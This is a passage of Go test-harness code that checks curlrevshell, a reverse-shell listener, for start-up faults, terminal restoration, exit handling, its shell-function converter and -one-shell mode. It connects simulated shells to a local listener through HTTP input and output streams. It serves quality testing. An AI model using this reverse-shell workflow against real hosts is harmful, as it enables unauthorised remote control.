			/* The directory exists, nothing can be created in it (not even by root). */
			cache = "/proc/sys/kernel/curlrevshell-verif-cert.txtar"
		case "log-parent-missing":
			logf = filepath.Join(dir, "no", "such", "dir", "log.json")
		case "log-parent-is-file":
			os.WriteFile(filepath.Join(dir, "bfile"), []byte("x"), 0o600)
			logf = filepath.Join(dir, "bfile", "log.json")
		case "ctrl-i-missing":
			ctrli = filepath.Join(dir, "no-such-funcs")
		}
	}
	args = []string{"-listen-address", listen, "-tls-certificate-cache", cache}
	if "" != logf {
		args = append(args, "-log", logf)
	}
	if "" == ctrli && "-print-ctrl-i" == c.Flag {
		/* Asked to print it and no fault on it: there is one. */
		ctrli = filepath.Join(dir, "funcs.sh")
		os.WriteFile(ctrli, []byte("# TABDOC: f does f\nf() { :; }\n"), 0o644)
	}
	if "" != ctrli {
		args = append(args, "-ctrl-i", ctrli)
	}
	if "" != c.Flag {
		args = append(args, c.Flag)
	}
	return args, cleanup
}

// c20Run runs one start-up case; returns (signature, description) of a
// problem, or "".
func c20Run(c c20Case, base string, goodCache []byte) (string, string) {
	dir, _ := os.MkdirTemp(base, "case-")
	defer os.RemoveAll(dir)
	args, cleanup := c20Args(c, dir, goodCache)
	defer cleanup()
	cmd := exec.Command(binPath("curlrevshell"), args...)
	cmd.Env = c20Env(c, dir)
	cmd.Dir = dir
	var (
		p   *ptyrun.Proc
		err error
	)
	if c.TTY {
		p, err = ptyrun.Start(cmd)
	} else {
		p, err = ptyrun.StartNoTTY(cmd)
	}
	if nil != err {
		ev.Broken("starting the binary: %s", err)
	}
	defer p.Close()
	var before syscall.Termios
	if c.TTY {
		before = p.Before
	}
	/* A run that does start (no effective fault) is ended with Ctrl+D. */
	if c.TTY {
		if p.WaitFor(regexp.MustCompile(`Listening on|rror|Usage|\{\{`), 0, 20*time.Second) >= 0 && strings.Contains(p.Output(), "Listening on") {
			p.Send("\x04")
		}
	}
	status := p.Wait(30 * time.Second)
	out := p.Output()
	low := strings.ToLower(out)
	desc := fmt.Sprintf("status %d, output %q", status, trunc300(out))
	for _, k := range c20Crash {
		if strings.Contains(out, k) {
			return "crash-output", fmt.Sprintf("the output contains %q: %s", k, desc)
		}
	}
	if -1 == status {
		return "hang", "the program had to be killed: " + desc
	}
	if c.TTY {
		after, _ := p.PTY.Termios()
		if before != after {
			return "terminal-not-restored", fmt.Sprintf("terminal modes differ after exit: lflag %#o -> %#o, iflag %#o -> %#o, oflag %#o -> %#o; %s", before.Lflag, after.Lflag, before.Iflag, after.Iflag, before.Oflag, after.Oflag, desc)
		}
	}
	faults := append([]string{}, c.Faults...)
	if !c.TTY {
		faults = append(faults, "no-tty")
	}
	named := false
	for _, f := range faults {
		for _, k := range c20Keywords[f] {
			if strings.Contains(low, k) {
				named = true
			}
		}
	}
	infoOK := false
	switch c.Flag {
	case "-print-default-template":
		infoOK = 0 == status && strings.Contains(out, "{{")
	case "-h":
		infoOK = 0 == status && strings.Contains(out, "Usage")
	case "-print-ctrl-i":
		infoOK = 0 == status && strings.Contains(out, "tab_list")
	}
	switch {
	case 0 == len(faults):
		if 0 != status {
			return "clean-run-fails", desc
		}
	case "" == c.Flag:
		if 0 == status {
			return "failure-exits-zero", "the start-up condition cannot be satisfied but the exit status is 0: " + desc
		}
		if !named {
			return "cause-not-named", "the message names none of the causes: " + desc
		}
	default:
		if !(infoOK || 0 != status && named) {
			return "info-flag-unclear", "neither the requested output with status 0 nor a failure naming a cause: " + desc
		}
	}
	return "", ""
}

func trunc300(s string) string {
	if len(s) > 300 {
		return s[:150] + " ... " + s[len(s)-150:]
	}
	return s
}

// c20SelfExit: the program exits by itself.
func c20SelfExit(c c20Case, base string) (string, string) {
	dir, _ := os.MkdirTemp(base, "exit-")
	defer os.RemoveAll(dir)
	args := []string{"-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c", "cert.txtar")}
	how := strings.TrimSuffix(c.Exit, "-attached")
	attached := strings.HasSuffix(c.Exit, "-attached")
	if "one-shell" == how {
		args = append(args, "-one-shell")
	}
	if strings.HasSuffix(how, "tab-ctrl-d") {
		/* Something for Tab (Ctrl+I) to insert. */
		src := filepath.Join(dir, "insert.sh")
		os.WriteFile(src, []byte("f() { echo inserted; }\n"+strings.Repeat("# padding line of the insert source\n", 2000)), 0o644)
		args = append(args, "-ctrl-i", src)
	}
	cmd := exec.Command(binPath("curlrevshell"), args...)
	cmd.Env = c20Env(c, dir)
	p, err := ptyrun.Start(cmd)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer p.Close()
	before := p.Before
	lre := regexp.MustCompile(`Listening on (\S+)`)
	if p.WaitFor(lre, 0, 30*time.Second) < 0 {
		return "no-start", "the program did not start: " + trunc300(p.Output())
	}
	addr := lre.FindStringSubmatch(p.Output())[1]
	var ci, co *hworld.Conn
	if attached || "one-shell" == how {
		if ci, err = hworld.DialAddr(addr, ""); nil != err {
			return "no-connect", err.Error()
		}
		ci.Send(hworld.Get("/i/k", addr))
		if co, err = hworld.DialAddr(addr, ""); nil != err {
			return "no-connect", err.Error()
		}
		co.Send("POST /o/k HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
		if p.WaitFor(regexp.MustCompile(`Shell is ready`), 0, 30*time.Second) < 0 {
			return "no-shell", "the shell never became ready: " + trunc300(p.Output())
		}
		defer ci.Close()
		defer co.Close()
	}
	switch how {
	case "ctrl-c":
		p.Send("\x03")
	case "ctrl-d":
		p.Send("\x04")
	case "tab-ctrl-d":
		/* An insertion is under way when the operator leaves. */
		p.Send("\t\x04")
	case "queue-tab-ctrl-d":
		/* Nobody takes the operator's lines (no shell): the queue fills,
		an insertion then waits for room, and the operator leaves. */
		for i := 0; i < 8; i++ {
			p.Send(strings.Repeat("l\r", 128))
			time.Sleep(50 * time.Millisecond)
		}
		p.Send("\t")
		time.Sleep(300 * time.Millisecond)
		p.Send("\x04")
	case "one-shell":
		ci.Close()
		co.Close()
		/* The 'gone' notice is only a convenient moment to go on from: the
		program is winding down by then (its HTTP side returns as soon as
		the two connections are idle), and its terminal side stops taking
		queued notices at that moment, so the last one may never be
		displayed (seen once in ~100 sessions with GOGC=1 under load).
		Whether the shell is gone is judged by what follows. */
		p.WaitFor(regexp.MustCompile(`Shell is gone`), 0, 10*time.Second)
		/* The HTTP server's graceful shutdown polls for its connections
		to go idle (at most every 500 ms); a line entered inside that
		window is consumed before the program knows it is finishing.  An
		operator is not that fast: wait a human-scale moment, then one
		line must be enough. */
		time.Sleep(3 * time.Second)
		p.Send("\r")
	}
	status := p.Wait(30 * time.Second)
	out := p.Output()
	desc := fmt.Sprintf("status %d, output tail %q", status, trunc300(out))
	for _, k := range c20Crash {
		if strings.Contains(out, k) {
			return "crash-output", fmt.Sprintf("the output contains %q: %s", k, desc)
		}
	}
	if -1 == status {
		return "hang", "the program did not exit by itself: " + desc
	}
	if 0 != status {
		return "self-exit-status", desc
	}
	if !strings.Contains(out, "Goodbye.") {
		return "no-goodbye", desc
	}
	after, _ := p.PTY.Termios()
	if before != after {
		return "terminal-not-restored", fmt.Sprintf("terminal modes differ after exit: lflag %#o -> %#o; %s", before.Lflag, after.Lflag, desc)
	}
	return "", ""
}

func c20(r *ev.Result, tier string) {
	quick := isQuick(tier)
	base := ev.Scratch("c20-")
	defer os.RemoveAll(base)
	/* A good cache file, to damage. */
	good := c20GoodCache(base)

	faults := []string{"listen-bad-syntax", "listen-port-bound", "listen-not-local", "cache-empty", "cache-cut", "cache-garbage", "cache-spliced", "cache-unwritable", "cache-dir-takes-no-files", "log-parent-missing", "log-parent-is-file", "ctrl-i-missing"}
	flags := []string{"", "-print-default-template", "-print-ctrl-i", "-h"}
	group := func(f string) string { return strings.SplitN(f, "-", 2)[0] }
	var cases []c20Case
	for _, tty := range []bool{true, false} {
		for _, fl := range flags {
			cases = append(cases, c20Case{Flag: fl, TTY: tty})
			for i, f := range faults {
				if "ctrl-i-missing" == f && "-print-ctrl-i" != fl {
					continue /* Only a fault when asked to print it. */
				}
				cases = append(cases, c20Case{Faults: []string{f}, Flag: fl, TTY: tty})
				for _, g := range faults[i+1:] {
					if group(f) == group(g) {
						continue /* Two faults of one resource exclude each other. */
					}
					if "ctrl-i-missing" == g && "-print-ctrl-i" != fl {
						continue
					}
					if quick && ("" != fl || !tty) && (i+len(g))%3 != 0 {
						continue
					}
					cases = append(cases, c20Case{Faults: []string{f, g}, Flag: fl, TTY: tty})
				}
			}
		}
	}
	var exits []c20Case
	for _, how := range []string{"ctrl-c", "ctrl-d", "one-shell", "tab-ctrl-d", "queue-tab-ctrl-d"} {
		for _, gc := range []bool{false, true} {
			exits = append(exits, c20Case{TTY: true, Exit: how, GC: gc})
			if "one-shell" != how && "queue-tab-ctrl-d" != how {
				exits = append(exits, c20Case{TTY: true, Exit: how + "-attached", GC: gc})
			}
		}
	}
	/* Start-up failures with the collector running all the time. */
	for _, c := range cases {
		if c.TTY && "" == c.Flag && len(c.Faults) <= 1 {
			c.GC = true
			cases = append(cases, c)
		}
	}
	/* Start-up failures and exits on other terminals (a serial console, a
	shell inside an editor, ssh without a terminal type). */
	for _, term := range []string{"dumb", "unset", "xterm-256color", "vt100"} {
		for _, c := range cases {
			if c.TTY && "" == c.Flag && len(c.Faults) <= 1 && !c.GC && "" == c.Term {
				c.Term = term
				cases = append(cases, c)
			}
		}
		for _, c := range exits {
			if !c.GC && "" == c.Term {
				c.Term = term
				exits = append(exits, c)
			}
		}
	}
	r.Rule = fmt.Sprintf("the real binary: every single fault of %v and every pair from different resources x informational flag %v x {pty, no controlling terminal}; every self-initiated exit %v; exits and single faults also with the garbage collector (and finalizers) running all the time (GOGC=1) and with TERM dumb / unset / xterm-256color / vt100; "+
		"oracle: no panic/stack trace, non-zero status naming a cause (or the requested output), termios after exit equal to termios before start; distinct = distinct cases", faults, flags, []string{"ctrl-c", "ctrl-d", "one-shell", "…-attached"})
	var mu sync.Mutex
	for _, gc := range []bool{false, true} {
		exits = append(exits, c20Case{TTY: true, Exit: "stdin-devnull", GC: gc})
	}
	parallel(len(cases)+len(exits), func(i int) {
		var (
			c         c20Case
			sig, what string
		)
		if i < len(cases) {
			c = cases[i]
			sig, what = c20Run(c, base, good)
		} else {
			c = exits[i-len(cases)]
			if "stdin-devnull" == c.Exit {
				sig, what = c20StdinNotTTY(base, c.GC)
			} else {
				sig, what = c20SelfExit(c, base)
			}
		}
		mu.Lock()
		r.Evaluations++
		r.Distinct++
		mu.Unlock()
		if "" != sig {
			cls := strings.Join(c.Faults, "+")
			if "" != c.Exit {
				cls = c.Exit
			}
			if !c.TTY {
				cls += "/no-tty"
			}
			if c.GC {
				cls += "/gc"
			}
			if "" != c.Term {
				cls += "/TERM=" + c.Term
			}
			r.Violate(ev.Violation{Signature: sig + "/" + cls + "/" + c.Flag, What: fmt.Sprintf("%+v: %s", c, what), Kind: "c20", Replay: c})
		}
	})
	r.Sample(4, cases[len(cases)/2])
	r.Sample(4, cases[len(cases)-3])
	r.Sample(4, exits[1])
	r.Assume("the statement does not fix which of two injected faults is named, nor whether an informational flag wins over a fault: either is accepted")
	r.Assume("running as root: an unwritable cache path is modelled by a parent that is a regular file")
}

func c20GoodCache(base string) []byte {
	dir, _ := os.MkdirTemp(base, "good-")
	cache := filepath.Join(dir, "cert.txtar")
	cmd := exec.Command(binPath("curlrevshell"), "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", cache)
	p, err := ptyrun.Start(cmd)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer p.Close()
	if p.WaitFor(regexp.MustCompile(`Listening on`), 0, 30*time.Second) < 0 {
		ev.Broken("the binary does not start on a pty: %q", p.Output())
	}
	p.Send("\x04")
	p.Wait(30 * time.Second)
	b, err := os.ReadFile(cache)
	if nil != err {
		ev.Broken("no cache written: %s", err)
	}
	return b
}

func c20Replay(kind string, raw json.RawMessage) int {
	var c c20Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	base := ev.Scratch("c20r-")
	defer os.RemoveAll(base)
	var sig, what string
	if "" != c.Exit {
		sig, what = c20SelfExit(c, base)
	} else {
		sig, what = c20Run(c, base, c20GoodCache(base))
	}
	fmt.Printf("%+v\n%s %s\n", c, sig, what)
	if "" != sig {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// c20StdinNotTTY: the program has a controlling terminal (which it puts into
// raw mode through /dev/tty) but its standard input is something else:
// /dev/null, so that it leaves by itself at once.  The terminal must be as it
// was found.
func c20StdinNotTTY(base string, gc bool) (string, string) {
	dir, _ := os.MkdirTemp(base, "notty-in-")
	defer os.RemoveAll(dir)
	outf, _ := os.Create(filepath.Join(dir, "out"))
	defer outf.Close()
	devnull, _ := os.Open(os.DevNull)
	defer devnull.Close()
	cmd := exec.Command(binPath("curlrevshell"), "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c", "cert.txtar"))
	cmd.Env = c20Env(c20Case{GC: gc}, dir)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = devnull, outf, outf
	p, err := ptyrun.StartCtty(cmd)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer p.Close()
	status := p.Wait(30 * time.Second)
	b, _ := os.ReadFile(filepath.Join(dir, "out"))
	out := string(b) + p.Output()
	desc := fmt.Sprintf("status %d, output %q", status, trunc300(out))
	for _, k := range c20Crash {
		if strings.Contains(out, k) {
			return "crash-output", fmt.Sprintf("the output contains %q: %s", k, desc)
		}
	}
	if -1 == status {
		return "hang", "standard input is at its end from the start, the program did not exit: " + desc
	}
	after, _ := p.PTY.Termios()
	if p.Before != after {
		return "terminal-not-restored", fmt.Sprintf("controlling terminal present, standard input /dev/null: terminal modes differ after exit: lflag %#o -> %#o; %s", p.Before.Lflag, after.Lflag, desc)
	}
	return "", ""
}
