package checks

/*
 * C17 with a converter that is kept (the program keeps one for Ctrl+I):
 *
 *  - edit histories: after each edit of the source directory (rewritten in
 *    place with the same length and the same modification time, with an older
 *    one, contents of two files exchanged with their times, a file removed, a
 *    file added, a file replaced by a directory) the kept converter returns
 *    what a new converter returns, and both the reference;
 *
 *  - the filter table changed while a conversion is under way (every position
 *    of the change relative to the files x every kind of change): the payload
 *    is that of the table before or that of the table after, never a mixture,
 *    and the conversion does not fail.
 */

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func c17KeptHistories(r *ev.Result, base string) {
	dir := filepath.Join(base, "kept", "src")
	os.MkdirAll(dir, 0o755)
	defer os.RemoveAll(filepath.Join(base, "kept"))
	t0 := time.Date(2024, 5, 6, 7, 8, 9, 0, time.UTC)
	write := func(name, content string, mt time.Time) {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o644); nil != err {
			ev.Broken("%s", err)
		}
		if err := os.Chtimes(p, mt, mt); nil != err {
			ev.Broken("%s", err)
		}
	}
	type edit struct {
		name string
		do   func()
	}
	edits := []edit{
		{"rewritten, same length, same modification time", func() { write("a.sh", "a() { echo TWO; }\n", t0) }},
		{"rewritten, same length, older modification time", func() { write("b.subr", "b() { echo 2; }\n", t0.Add(-time.Hour)) }},
		{"two files exchange contents and keep their times", func() {
			write("a.sh", "c() { echo sea; }\n", t0)
			write("c.sh", "a() { echo TWO; }\n", t0)
		}},
		{"rewritten, same length, same time, whole-second time", func() { write("c.sh", "a() { echo 3!!; }\n", t0) }},
		{"a file removed", func() { os.Remove(filepath.Join(dir, "b.subr")) }},
		{"a file added with the time of the others", func() { write("b.subr", "b() { echo new; }\n", t0) }},
		{"a file replaced by a directory of that name", func() {
			os.Remove(filepath.Join(dir, "c.sh"))
			os.MkdirAll(filepath.Join(dir, "c.sh"), 0o755)
		}},
		{"the directory replaced by a file again", func() {
			os.Remove(filepath.Join(dir, "c.sh"))
			write("c.sh", "c() { echo back; }\n", t0)
		}},
		{"perl file rewritten, same length and time", func() { write("p.pl", "print 'two';\n", t0) }},
	}
	n := 0
	for t := range c17Tables {
		os.RemoveAll(dir)
		os.MkdirAll(dir, 0o755)
		write("a.sh", "a() { echo one; }\n", t0)
		write("b.subr", "b() { echo 1; }\n", t0)
		write("c.sh", "c() { echo see; }\n", t0)
		write("p.pl", "print 'one';\n", t0)
		kept := c17Converter(t)
		/* Also as one of several sources, and as a single file. */
		single := filepath.Join(dir, "a.sh")
		kept.From(dir)
		kept.From(single)
		for i, e := range edits {
			e.do()
			for _, srcs := range [][]string{{dir}, {single}, {single, dir}} {
				got, err := kept.From(srcs...)
				want, werr := c17Converter(t).From(srcs...)
				n++
				if nil != werr {
					ev.Broken("c17 kept histories: a new converter fails on %v: %s", srcs, werr)
				}
				if nil != err || !bytes.Equal(got, want) {
					r.Violate(ev.Violation{Signature: "kept-converter-stale/" + e.name, Kind: "c17big", Replay: map[string]any{"table": t, "edit": i},
						What: fmt.Sprintf("table %q, a converter that has converted the sources before; then: %s (edit %d of the history); it now returns %q err %v, a new converter %q", c17TableNames[t], e.name, i+1, trunc80(string(got)), err, trunc80(string(want)))})
					break
				}
			}
		}
	}
	r.Add(n)
	r.Distinct += n
	r.Set("kept_converter_history_steps", n)
}

// c17TableChanges: SetFilter while From is inside the filter of the k-th
// file.
func c17TableChanges(r *ev.Result, base string) {
	dir := filepath.Join(base, "tblchg", "src")
	os.MkdirAll(dir, 0o755)
	defer os.RemoveAll(filepath.Join(base, "tblchg"))
	names := []string{"a.x", "b.y", "c.z", "d.w"}
	for _, n := range names {
		os.WriteFile(filepath.Join(dir, n), []byte("content of "+n+"\n"), 0o644)
	}
	tag := func(t string) shellfuncsfile.Filter {
		return func(n string, rd io.Reader) ([]byte, error) {
			b, err := io.ReadAll(rd)
			return append([]byte(t+" "), b...), err
		}
	}
	type change struct {
		name string
		do   func(c *shellfuncsfile.Converter)
	}
	changes := []change{
		{"filter of *.y replaced", func(c *shellfuncsfile.Converter) { c.SetFilter("*.y", tag("NEW")) }},
		{"filter of *.z replaced", func(c *shellfuncsfile.Converter) { c.SetFilter("*.z", tag("NEW")) }},
		{"filter of *.x replaced", func(c *shellfuncsfile.Converter) { c.SetFilter("*.x", tag("NEW")) }},
		{"pattern *.z removed", func(c *shellfuncsfile.Converter) { c.SetFilter("*.z", nil) }},
		{"pattern *.y removed", func(c *shellfuncsfile.Converter) { c.SetFilter("*.y", nil) }},
		{"pattern *.w added", func(c *shellfuncsfile.Converter) { c.SetFilter("*.w", tag("NEW")) }},
		{"overlapping pattern b* added", func(c *shellfuncsfile.Converter) { c.SetFilter("b*", tag("NEW")) }},
		{"overlapping pattern ?.z added", func(c *shellfuncsfile.Converter) { c.SetFilter("?.z", tag("NEW")) }},
	}
	mk := func(gate func(string)) *shellfuncsfile.Converter {
		c := shellfuncsfile.NewDefaultConverter()
		for _, p := range []string{"*.pl", "*.sh", "*.subr"} {
			c.SetFilter(p, nil)
		}
		for _, p := range []string{"*.x", "*.y", "*.z"} {
			t := tag("OLD")
			c.SetFilter(p, func(n string, rd io.Reader) ([]byte, error) {
				if nil != gate {
					gate(n)
				}
				return t(n, rd)
			})
		}
		return c
	}
	n := 0
	for ci, ch := range changes {
		before, err := mk(nil).From(dir)
		if nil != err {
			ev.Broken("c17 table changes: %s", err)
		}
		ac := mk(nil)
		ch.do(ac)
		after, err := ac.From(dir)
		if nil != err {
			ev.Broken("c17 table changes: %s", err)
		}
		for k, at := range []string{"a.x", "b.y", "c.z"} {
			entered, resume := make(chan struct{}), make(chan struct{})
			var armed atomic.Bool
			armed.Store(true)
			c := mk(func(n string) {
				if filepath.Base(n) == at && armed.CompareAndSwap(true, false) {
					close(entered)
					<-resume
				}
			})
			type res struct {
				b   []byte
				err error
			}
			done := make(chan res, 1)
			go func() { b, err := c.From(dir); done <- res{b, err} }()
			select {
			case <-entered:
			case <-done:
				/* The conversion did not go through the filter of this
				file (under this name): nothing to interleave with here;
				what it returns is judged by the other clauses. */
				r.Inc("table_change_positions_not_reached", 1)
				continue
			case <-time.After(30 * time.Second):
				ev.Broken("c17 table changes: From never reached the filter of %s", at)
			}
			/* The change, from another goroutine; it may or may not have
			to wait for the conversion. */
			changed := make(chan struct{})
			go func() { ch.do(c); close(changed) }()
			select {
			case <-changed:
			case <-time.After(200 * time.Millisecond):
			}
			close(resume)
			x := <-done
			<-changed
			n++
			if nil != x.err || (!bytes.Equal(x.b, before) && !bytes.Equal(x.b, after)) {
				r.Violate(ev.Violation{Signature: "table-changed-during-conversion/" + ch.name, Kind: "c17big", Replay: map[string]any{"change": ci, "file": k},
					What: fmt.Sprintf("directory %v, patterns *.x *.y *.z; while the filter of %s runs, on another goroutine: %s. From returns %q err %v: neither the payload of the table before (%q) nor of the table after (%q)", names, at, ch.name, x.b, x.err, before, after)})
				break
			}
			/* And afterwards the converter uses the new table. */
			if b, err := c.From(dir); nil != err || !bytes.Equal(b, after) {
				r.Violate(ev.Violation{Signature: "table-change-not-applied/" + ch.name, Kind: "c17big", Replay: map[string]any{"change": ci, "file": k},
					What: fmt.Sprintf("after %s (made while a conversion was under way) the next From returns %q err %v, want %q", ch.name, b, err, after)})
				break
			}
		}
	}
	r.Add(n)
	r.Distinct += n
	r.Set("table_changes_during_conversion", n)
}

// c17Counts: directories with 1..70 eligible files (every count, so every
// remainder modulo whatever a block-wise or parallel implementation divides
// by), with the process's processor count as it is and set to 3 and 1.
func c17Counts(r *ev.Result, base string) {
	dir := filepath.Join(base, "counts", "src")
	defer os.RemoveAll(filepath.Join(base, "counts"))
	n := 0
	for _, procs := range []int{0, 3, 1} {
		prev := 0
		if 0 != procs {
			prev = runtime.GOMAXPROCS(procs)
		}
		os.RemoveAll(dir)
		os.MkdirAll(dir, 0o755)
		var want bytes.Buffer
		for k := 1; k <= 70; k++ {
			name := fmt.Sprintf("f%03d.sh", k)
			content := fmt.Sprintf("f%03d() { echo %d; }\n", k, k)
			os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644)
			want.WriteString(content)
			got, err := shellfuncsfile.NewDefaultConverter().From(dir)
			n++
			if nil != err || !bytes.Equal(got, want.Bytes()) {
				r.Violate(ev.Violation{Signature: "file-count/payload-differs", Kind: "c17big", Replay: map[string]any{"files": k, "gomaxprocs": runtime.GOMAXPROCS(0)},
					What: fmt.Sprintf("a directory of %d eligible files (GOMAXPROCS %d): the payload has %d bytes (err %v), the files together %d; the payload ends %q", k, runtime.GOMAXPROCS(0), len(got), err, want.Len(), tail(string(got), 40))})
				break
			}
		}
		if 0 != procs {
			runtime.GOMAXPROCS(prev)
		}
	}
	r.Add(n)
	r.Distinct += n
	r.Set("directories_by_file_count", n)
}

// c17Program: what `curlrevshell -print-ctrl-i -ctrl-i <source>` prints is what
// the library makes of that very source as it was named: a symbolic link to a
// file with another name or extension, a directory, a link to a directory,
// the flag given twice (the last one counts).
func c17Program(r *ev.Result, base string) {
	bin := binPath("curlrevshell")
	if _, err := os.Stat(bin); nil != err {
		r.Set("program_print_ctrl_i", "not run: "+err.Error())
		return
	}
	root := filepath.Join(base, "program")
	impl, dir := filepath.Join(root, "impl"), filepath.Join(root, "funcs")
	os.MkdirAll(impl, 0o755)
	os.MkdirAll(dir, 0o755)
	defer os.RemoveAll(root)
	os.WriteFile(filepath.Join(impl, "recon_v2.txt"), []byte("# TABDOC: recon look around\nrecon() { id; }"), 0o644)
	os.WriteFile(filepath.Join(impl, "hello_v2.perl"), []byte("print \"hello @ARGV\\n\";\n"), 0o644)
	os.Symlink(filepath.Join("impl", "recon_v2.txt"), filepath.Join(root, "funcs.sh"))
	os.Symlink(filepath.Join("impl", "hello_v2.perl"), filepath.Join(root, "hello.pl"))
	os.WriteFile(filepath.Join(dir, "a.sh"), []byte("# TABDOC: a_fn first\na_fn() { :; }\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "b.subr"), []byte("# TABDOC: b_fn second\nb_fn() { :; }"), 0o644)
	os.Symlink("funcs", filepath.Join(root, "funcs-link"))
	n := 0
	for _, srcs := range [][]string{
		{filepath.Join(root, "funcs.sh")}, {filepath.Join(root, "hello.pl")}, {dir}, {filepath.Join(root, "funcs-link")},
		{dir, filepath.Join(root, "funcs.sh")}, {filepath.Join(root, "hello.pl"), dir},
	} {
		args := []string{"-print-ctrl-i"}
		for _, s := range srcs {
			args = append(args, "-ctrl-i", s)
		}
		cmd := exec.Command(bin, args...)
		cmd.Env = append(os.Environ(), "HOME="+root, "CURLREVSHELL_LOG=")
		cmd.Dir = root
		got, err := cmd.Output()
		conv := shellfuncsfile.NewDefaultConverter()
		conv.AddListFunction = true
		want, werr := conv.From(srcs[len(srcs)-1]) /* A flag given twice: the last value. */
		n++
		if nil != werr {
			ev.Broken("c17 program seam: the library fails on %v: %s", srcs, werr)
		}
		if nil != err || !bytes.Equal(got, want) {
			r.Violate(ev.Violation{Signature: "program/print-ctrl-i-differs", Kind: "c17big", Replay: map[string]any{"sources": srcs},
				What: fmt.Sprintf("curlrevshell -print-ctrl-i with -ctrl-i %v (paths below %s): printed %q (%v), the library makes %q of the source named last", srcs, root, trunc80(string(got)), err, trunc80(string(want)))})
		}
	}
	r.Add(n)
	r.Distinct += n
	r.Set("program_print_ctrl_i_runs", n)
}
