package checks

/*
 * C12 — -one-shell closes the listener at the first full shell and exits
 * after it.  Histories of the real binary on a pty, driven by real TLS
 * clients: pre-attempts (half-attached streams that leave, refused streams) x
 * arrival order x traffic in flight x way the shell ends x exit trigger.
 */

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
	"github.com/magisterquis/curlrevshell/verifx/ptyrun"
)

func init() {
	registry["C12"] = checkDef{level: "exploration", run: c12, replay: c12Replay}
}

type c12Case struct {
	Pre     []string `json:"pre_attempts"` /* half-in | half-out | refused-out */
	Arrival string   `json:"arrival"`      /* in-out | out-in | io */
	Traffic bool     `json:"traffic_in_flight"`
	Ending  string   `json:"ending"`  /* close-in | close-out | close-both | eof */
	Trigger string   `json:"trigger"` /* line | ctrl-d */
	/* QuietMs: how long the attached shell is left alone between the two
	round trips made after the listener has closed; 0 means 2500. */
	QuietMs int `json:"quiet_ms,omitempty"`
	/* Brief: the shell ends as soon as it has become ready. */
	Brief bool `json:"ends_at_once,omitempty"`
	/* Listen: the -listen-address ("" means 127.0.0.1:0). */
	Listen string `json:"listen_address,omitempty"`
	/* Log, if set, is given as -log (a device, a FIFO, a file). */
	Log string `json:"log,omitempty"`
}

func chunk(s string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(s), s) }

const c12Wait = 30 * time.Second

func c12Run(c c12Case, base string) (string, string) {
	dir, _ := os.MkdirTemp(base, "run-")
	defer os.RemoveAll(dir)
	listen := "127.0.0.1:0"
	if "" != c.Listen {
		listen = c.Listen
	}
	cmd := exec.Command(binPath("curlrevshell"), "-one-shell", "-listen-address", listen, "-tls-certificate-cache", filepath.Join(dir, "c", "cert.txtar"))
	switch c.Log {
	case "":
	case "fifo":
		/* A FIFO somebody reads (a log shipper). */
		fifo := filepath.Join(dir, "log.fifo")
		if err := syscall.Mkfifo(fifo, 0o600); nil == err {
			go func() {
				if f, err := os.Open(fifo); nil == err {
					io.Copy(io.Discard, f)
					f.Close()
				}
			}()
			cmd.Args = append(cmd.Args, "-log", fifo)
		}
	case "file":
		cmd.Args = append(cmd.Args, "-log", filepath.Join(dir, "session.json"))
	default:
		cmd.Args = append(cmd.Args, "-log", c.Log)
	}
	cmd.Env = append(os.Environ(), "HOME="+dir, "CURLREVSHELL_LOG=")
	p, err := ptyrun.Start(cmd)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer p.Close()
	fail := func(sig, what string) (string, string) {
		return sig, what + "; terminal output tail: " + fmt.Sprintf("%q", trunc300(p.Output()))
	}
	lre := regexp.MustCompile(`Listening on (\S+)`)
	if p.WaitFor(lre, 0, c12Wait) < 0 {
		return fail("no-start", "the program did not start")
	}
	addr := lre.FindStringSubmatch(p.Output())[1]
	/* (The observation has to work before anything is made of it.) */
	atStart, procOK := listeningSockets(p.Cmd.Process.Pid)
	procOK = procOK && 0 != len(atStart)
	canConnect := func() bool {
		cn, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if nil != err {
			return false
		}
		cn.Close()
		return true
	}
	openIn := func(id string) (*hworld.Conn, error) {
		cn, err := hworld.DialAddr(addr, "")
		if nil != err {
			return nil, err
		}
		return cn, cn.Send(hworld.Get("/i/"+id, addr))
	}
	openOut := func(id string) (*hworld.Conn, error) {
		cn, err := hworld.DialAddr(addr, "")
		if nil != err {
			return nil, err
		}
		return cn, cn.Send("POST /o/" + id + " HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	}
	mark := len(p.Output())
	waitNotice := func(re string) bool {
		off := p.WaitFor(regexp.MustCompile(re), mark, c12Wait)
		if off < 0 {
			return false
		}
		mark = off
		return true
	}

	var silentAt time.Time /* When a connection that never says anything was opened. */
	/* Pre-attempts: the listener must stay open through all of them. */
	for i, pre := range c.Pre {
		switch pre {
		case "half-in":
			cn, err := openIn(fmt.Sprintf("pre%d", i))
			if nil != err {
				return fail("listener-closed-early", fmt.Sprintf("pre-attempt %d (%s): %v", i, pre, err))
			}
			if !waitNotice(`Input connected`) {
				return fail("pre-attempt-lost", "no 'Input connected' notice")
			}
			cn.Close()
			if !waitNotice(`Shell is gone`) {
				return fail("pre-attempt-lost", "no 'gone' notice after a half-attached input left")
			}
		case "plain-http":
